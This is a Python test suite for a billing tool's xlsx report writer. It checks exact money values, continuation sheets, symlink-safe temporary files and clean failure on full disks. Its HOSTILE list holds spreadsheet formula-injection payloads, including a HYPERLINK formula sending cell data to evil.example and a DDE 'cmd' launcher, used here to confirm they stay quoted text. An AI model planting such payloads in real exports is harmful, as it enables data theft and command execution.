"""The streamed sheets (Calls, Ledger) from rows given directly: hostile text, odd values, exact money,
continuation sheets and failed writes. Each workbook is written by ``xlsx.write`` and read back with openpyxl."""

from __future__ import annotations

import errno
import os
import re
import signal
import tempfile
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from credits_cli.errors import InvalidInput
from credits_cli.reports import guard, xlsx
from credits_cli.reports.build import CALL_COLUMNS, LEDGER_COLUMNS, DayRow, Period, Report

D = Decimal
KEYS = [key for _, key in CALL_COLUMNS]
LEDGER_KEYS = [key for _, key in LEDGER_COLUMNS]
TEXT_KEYS = [k for k in KEYS if k not in ("start", "duration_seconds", "billed_seconds", "pool_seconds",
                                          "charged_seconds", "charge", "source_line")]

#: Text that must come back as the same text, never a formula or an error: (written, read back, quoted).
HOSTILE = [
    ("=1+1", "=1+1", True),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", True),
    ("+44 20 7946 0000", "+44 20 7946 0000", True),
    ("-2", "-2", True),
    ("@SUM(A1)", "@SUM(A1)", True),
    ("\t=1+1", "\t=1+1", True),
    ("\r=1+1", "\r=1+1", True),
    ("two\r\nlines\n", "two\r\nlines\n", False),
    ("=", "=", True),
    ("#N/A", "#N/A", True),
    ("#n/a", "#n/a", True),
    ("#DIV/0!", "#DIV/0!", True),
    ("#REF!", "#REF!", True),
    ("#NAME?", "#NAME?", True),
    ("#SPILL!", "#SPILL!", True),
    ("bell\x07name", "bell\ufffdname", False),
    ("nul\x00and\x1besc", "nul\ufffdand\ufffdesc", False),
    ("\x07=1", "\ufffd=1", False),  # what starts the cleaned text decides
    ("not\uffffxml\ufffe", "not\ufffdxml\ufffd", False),
    ("lone \ud800 surrogate \udfff", "lone \ufffd surrogate \ufffd", False),
    ("=lone\udc00", "=lone\ufffd", True),
    ("x" * 40000, "x" * 32767, False),
    ("=" + "y" * 40000, "=" + "y" * 32766, True),
    ("\U0001f600" * 20000, "\U0001f600" * 16383, False),  # 32,767 UTF-16 units at most, pairs kept whole
    (" padded ", " padded ", False),
    ("a & b < c > d \"q\"", "a & b < c > d \"q\"", False),
    ("_x0041_ stays literal", "_x0041_ stays literal", False),
    ("\u00e9t\u00e9 \u2603", "\u00e9t\u00e9 \u2603", False),
    ("#hashtag", "#hashtag", False),
    ("1+1=2", "1+1=2", False),
]


def tiny_report(days: int = 1) -> Report:
    """A Report made by hand: the small sheets have a row or two; the streamed rows are given to write()."""
    first = date(2026, 11, 1)
    daily = [DayRow(first + timedelta(days=n), 1, 1, 0, 60, D("0.0100"), D(0), D(0), D(0), D("9.9900"))
             for n in range(days)]
    return Report(
        tenant="contoso", tenant_name="Contoso", currency="USD", period=Period(first, first + timedelta(days - 1)),
        generated_at=datetime(2026, 11, 30, 12), opening=D("10"), closing=D("9.99"), movements={"charge": D("-0.01")},
        topups=D(0), topup_count=0, recharges=D(0), recharge_count=0, charges_posted=D("0.01"), late_charges=D(0),
        late_calls=0, spend=D("0.01"), expired=D(0), other=D(0),
        ledger_entries=1, calls=1, statuses={"charged": 1}, by_kind=[], denied=[], pools=[], users=[],
        destinations=[], daily=daily,
    )


def call(n: int = 0, **values: Any) -> tuple[Any, ...]:
    """A Calls row in CALL_COLUMNS order: a plain charged call, with ``values`` replacing its fields."""
    row: dict[str, Any] = {
        "start": datetime(2026, 11, 2, 9, 0) + timedelta(minutes=n), "external_id": f"call-{n}",
        "user_upn": "alice@contoso.com", "kind": "outbound", "call_type": "user_out", "number": "+14255550100",
        "country": "US", "rate_name": "United States", "rate_prefix": "1", "status": "charged", "reason": "",
        "duration_seconds": 60, "billed_seconds": 60, "pool": None, "pool_seconds": 0, "charged_seconds": 60,
        "charge": D("0.0100"), "source_file": "calls.csv", "source_line": n + 2,
    }
    row.update(values)
    return tuple(row[k] for k in KEYS)


def entry(n: int = 0, **values: Any) -> tuple[Any, ...]:
    row: dict[str, Any] = {
        "posted_at": datetime(2026, 11, 2, 9, 0) + timedelta(minutes=n),
        "service_at": datetime(2026, 11, 2, 9, 0) + timedelta(minutes=n), "id": n + 1, "kind": "charge",
        "entries": 1, "amount": D("-0.0100"), "balance": D("9.9900"), "lot_id": 1, "call": f"call-{n}", "note": "",
    }
    row.update(values)
    return tuple(row[k] for k in LEDGER_KEYS)


def write(tmp_path: Path, calls: list, ledger: list | None = None, name: str = "r.xlsx") -> tuple[Path, dict]:
    out = tmp_path / name
    return out, xlsx.write(out, tiny_report(), iter(calls), iter(ledger if ledger is not None else [entry()]))


def excel_text(value: str) -> str:
    """A string cell as Excel shows it: Excel's ``_xHHHH_`` escapes decoded (openpyxl leaves them as written)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def money(cell) -> Decimal:
    assert cell.data_type == "n" and cell.number_format == '#,##0.0000 "USD"', (cell.coordinate, cell.number_format)
    return Decimal(str(cell.value)).quantize(D("0.0001"))


def test_hostile_text_stays_text_in_every_text_column(tmp_path):
    rows = [call(n, **{k: text for k in TEXT_KEYS}) for n, (text, _, _) in enumerate(HOSTILE)]
    notes = [entry(n, kind=text, call=text, note=text) for n, (text, _, _) in enumerate(HOSTILE)]
    out, _ = write(tmp_path, rows, notes)
    wb = openpyxl.load_workbook(out)
    for title, keys, columns in (("Calls", TEXT_KEYS, KEYS), ("Ledger", ["kind", "call", "note"], LEDGER_KEYS)):
        ws = wb[title]
        got = list(ws.iter_rows(min_row=2))
        assert len(got) == len(HOSTILE)
        for cells, (text, expected, quoted) in zip(got, HOSTILE, strict=True):
            for key in keys:
                cell = cells[columns.index(key)]
                assert cell.data_type == "s", (title, key, text[:20], cell.data_type)
                assert excel_text(cell.value) == expected, (title, key, text[:20], (cell.value or "")[:20])
                assert bool(cell.quotePrefix) == quoted, (title, key, text[:20])
    # the files themselves hold no formula and no error cell anywhere
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                data = z.read(name)
                assert b"<f>" not in data and b"<f " not in data and b't="e"' not in data, name


def test_every_formula_start_and_error_value_of_the_guard_is_quoted(tmp_path):
    texts = [p + "1" for p in guard.FORMULA_PREFIXES] + sorted(guard.ERROR_VALUES)
    out, _ = write(tmp_path, [call(n, user_upn=t) for n, t in enumerate(texts)])
    ws = openpyxl.load_workbook(out)["Calls"]
    col = KEYS.index("user_upn")
    for row, text in zip(ws.iter_rows(min_row=2), texts, strict=True):
        assert row[col].data_type == "s" and row[col].quotePrefix, text
        assert excel_text(row[col].value) == text


def test_values_of_unexpected_types_are_written_by_their_type(tmp_path):
    odd = call(
        0,
        external_id=12345,  # a number in a text column: its text
        user_upn=True,  # so is a bool
        duration_seconds="=1+1",  # text in a number column: text, through the guard
        billed_seconds=D("61.5"),  # a Decimal where a count was expected
        pool_seconds=2.5,
        charged_seconds=float("nan"),  # no number: its text
        charge=D("NaN"),
        start=datetime(2026, 11, 2, 10, 0, tzinfo=timezone(timedelta(hours=1))),  # aware: shown in UTC
        source_line=True,
    )
    out, written = write(tmp_path, [odd, call(1, start=date(2026, 11, 3))])
    assert written["calls"] == 2
    ws = openpyxl.load_workbook(out)["Calls"]
    cells = {key: cell for key, cell in zip(KEYS, next(ws.iter_rows(min_row=2, max_row=2)), strict=True)}
    assert cells["external_id"].value == "12345" and cells["external_id"].data_type == "s"
    assert cells["user_upn"].value == "True"
    assert cells["duration_seconds"].value == "=1+1" and cells["duration_seconds"].quotePrefix
    assert money(cells["billed_seconds"]) == D("61.5")
    assert cells["pool_seconds"].value == 2.5
    assert cells["charged_seconds"].value == "nan" and cells["charge"].value == "NaN"
    assert cells["start"].value == datetime(2026, 11, 2, 9, 0) and cells["start"].is_date
    assert cells["source_line"].value is True
    day = ws.cell(3, 1)
    assert day.value == datetime(2026, 11, 3) and day.number_format == "yyyy-mm-dd"


amounts = st.decimals(min_value=D("-99999999999.9999"), max_value=D("99999999999.9999"), places=4,
                      allow_nan=False, allow_infinity=False)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(charges=st.lists(amounts, min_size=1, max_size=30))
def test_every_money_cell_reads_back_as_the_exact_decimal(tmp_path_factory, charges):
    """A double per cell (Excel's own cell type), and still the ledger's amount to the fourth decimal."""
    charges += [D("0.0001"), D("-0.0001"), D("12345678901.2345"), D("0.1") + D("0.2"), D("146.0748")]
    ledger = [entry(n, amount=-c, balance=c * 3) for n, c in enumerate(charges)]
    out, _ = write(tmp_path_factory.mktemp("money"), [call(n, charge=c) for n, c in enumerate(charges)], ledger)
    wb = openpyxl.load_workbook(out)
    col = KEYS.index("charge") + 1
    got = [money(row[0]) for row in wb["Calls"].iter_rows(min_row=2, min_col=col, max_col=col)]
    assert got == charges
    rows = list(wb["Ledger"].iter_rows(min_row=2, min_col=6, max_col=7))
    assert [money(a) for a, _ in rows] == [-c for c in charges]
    assert [money(b) for _, b in rows] == [c * 3 for c in charges]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=8))
def test_any_text_reads_back_as_text(tmp_path_factory, texts):
    """Whatever a call record holds comes back as text: the same text, characters XML cannot hold aside."""
    out, _ = write(tmp_path_factory.mktemp("h"), [call(n, reason=t) for n, t in enumerate(texts)])
    ws = openpyxl.load_workbook(out)["Calls"]
    col = KEYS.index("reason")
    for row, text in zip(ws.iter_rows(min_row=2), texts, strict=True):
        cell = row[col]
        expected, quoted = guard.cell_text(text)
        assert cell.data_type == "s", (text, cell.data_type)
        assert bool(cell.quotePrefix) == quoted, text
        assert excel_text(cell.value) == expected, (text, cell.value)


def test_calls_and_ledger_continue_on_further_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 5)  # 4 data rows a sheet
    calls = [call(n) for n in range(9)]
    out, written = write(tmp_path, calls, [entry(n, entries=2) for n in range(4)])
    assert written["calls_sheets"] == ["Calls", "Calls (2)", "Calls (3)"]
    assert written["ledger_sheets"] == ["Ledger"] and written["ledger_rows"] == 4 and written["ledger_entries"] == 8
    assert written["calls"] == 9
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Summary", "Daily", "Users", "Destinations", "Pools", "Ledger", "Calls", "Calls (2)",
                             "Calls (3)"]
    assert wb.sheetnames == written["sheets"]
    ids = []
    for title, n in (("Calls", 4), ("Calls (2)", 4), ("Calls (3)", 1)):
        ws = wb[title]
        assert ws.freeze_panes == "A2" and [c.value for c in ws[1]] == [
            f"{h} (USD)" if h == "Charge" else h for h, _ in CALL_COLUMNS]
        assert ws.auto_filter.ref == f"A1:S{n + 1}" and ws.print_title_rows == "$1:$1"
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        assert len(rows) == n
        ids += [row[1] for row in rows]
    assert ids == [f"call-{n}" for n in range(9)]


def test_a_full_sheet_does_not_start_an_empty_one(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 5)
    out, written = write(tmp_path, [call(n) for n in range(8)], [])
    assert written["calls_sheets"] == ["Calls", "Calls (2)"] and written["ledger_sheets"] == ["Ledger"]
    wb = openpyxl.load_workbook(out)
    assert wb["Calls (2)"].auto_filter.ref == "A1:S5"
    ledger = wb["Ledger"]  # no entries: the header alone, its filter on the header
    assert ledger.max_row == 1 and ledger.auto_filter.ref == "A1:J1"


@pytest.fixture
def scratch(tmp_path, monkeypatch) -> Path:
    """The system's temporary folder for this test, to see that nothing is left in it."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_a_failed_write_leaves_no_file_and_no_temporary(tmp_path, scratch):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "report.xlsx").write_bytes(b"last month's")

    def broken():
        yield from (call(n) for n in range(3))
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        xlsx.write(folder / "report.xlsx", tiny_report(), broken(), iter([entry()]))
    assert [p.name for p in folder.iterdir()] == ["report.xlsx"]
    assert (folder / "report.xlsx").read_bytes() == b"last month's"  # the old file is untouched
    assert list(scratch.iterdir()) == []


def test_a_full_disk_is_one_line_and_leaves_nothing(tmp_path, scratch):
    folder = tmp_path / "out"
    folder.mkdir()

    def full():
        yield call(0)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with pytest.raises(InvalidInput) as info:
        xlsx.write(folder / "report.xlsx", tiny_report(), full(), iter([]))
    message = str(info.value)
    assert message == f"cannot write {folder / 'report.xlsx'}: No space left on device; nothing written"
    assert "\n" not in message and info.value.__cause__ is None
    assert list(folder.iterdir()) == [] and list(scratch.iterdir()) == []


@pytest.mark.skipif(not hasattr(signal, "SIGXFSZ"), reason="needs RLIMIT_FSIZE")
def test_a_file_size_limit_is_one_line_and_leaves_nothing(tmp_path, scratch):
    """A real write that fails inside XlsxWriter: the system refuses to grow any file past 8 KB."""
    import resource

    folder = tmp_path / "out"
    folder.mkdir()
    calls = [call(n, rate_name=f"destination {n} " * 8) for n in range(400)]  # far more than 8 KB zipped
    old_limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    old_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of a signal
    resource.setrlimit(resource.RLIMIT_FSIZE, (8192, old_limit[1]))
    try:
        with pytest.raises(InvalidInput) as info:
            xlsx.write(folder / "report.xlsx", tiny_report(), iter(calls), iter([]))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, old_limit)
        signal.signal(signal.SIGXFSZ, old_handler)
    assert str(info.value) == f"cannot write {folder / 'report.xlsx'}: File too large; nothing written"
    assert list(folder.iterdir()) == [] and list(scratch.iterdir()) == []


def test_a_missing_folder_is_one_line(tmp_path):
    with pytest.raises(InvalidInput, match=r"^cannot write .*: no such folder$"):
        xlsx.write(tmp_path / "nowhere" / "r.xlsx", tiny_report(), iter([]), iter([]))


def test_the_temporary_file_is_new_and_unpredictable(tmp_path, monkeypatch):
    """Written beside the target under a fresh name from mkstemp: a planted symlink is never followed."""
    folder = tmp_path / "out"
    folder.mkdir()
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    for name in (".r.xlsx.tmp", f".r.xlsx.{os.getpid()}.tmp"):  # the names a predictable writer would use
        (folder / name).symlink_to(victim)
    seen: list[Path] = []
    real_replace = os.replace

    def replace(src, dst):
        seen.append(Path(src))
        assert not Path(src).is_symlink() and Path(src).stat().st_nlink == 1
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    out, _ = write(folder, [call(0)])
    assert victim.read_text() == "keep me"
    assert len(seen) == 1 and seen[0].parent == folder and seen[0].name.startswith(".r.xlsx.")
    assert seen[0].name.endswith(".tmp") and not seen[0].exists()
    assert openpyxl.load_workbook(out)["Calls"].cell(2, 2).value == "call-0"
    assert (out.stat().st_mode & 0o777) == 0o600  # the owner's alone, like the database


def test_the_same_report_is_the_same_file(tmp_path):
    """Sheets, styles and properties come from the report only (the creation time is the report's)."""
    rows = [call(n) for n in range(5)]
    a, _ = write(tmp_path, rows, name="a.xlsx")
    b, _ = write(tmp_path, rows, name="b.xlsx")
    assert a.read_bytes() == b.read_bytes()
    props = openpyxl.load_workbook(a).properties
    assert props.created == datetime(2026, 11, 30, 12) and props.title == "Report for contoso, 2026-11-01 to 2026-11-01"


def test_naive_times_are_utc(tmp_path):
    aware = datetime(2026, 11, 2, 23, 30, tzinfo=UTC)
    out, _ = write(tmp_path, [call(0, start=aware), call(1, start=aware.replace(tzinfo=None))])
    ws = openpyxl.load_workbook(out)["Calls"]
    assert ws.cell(2, 1).value == ws.cell(3, 1).value == datetime(2026, 11, 2, 23, 30)
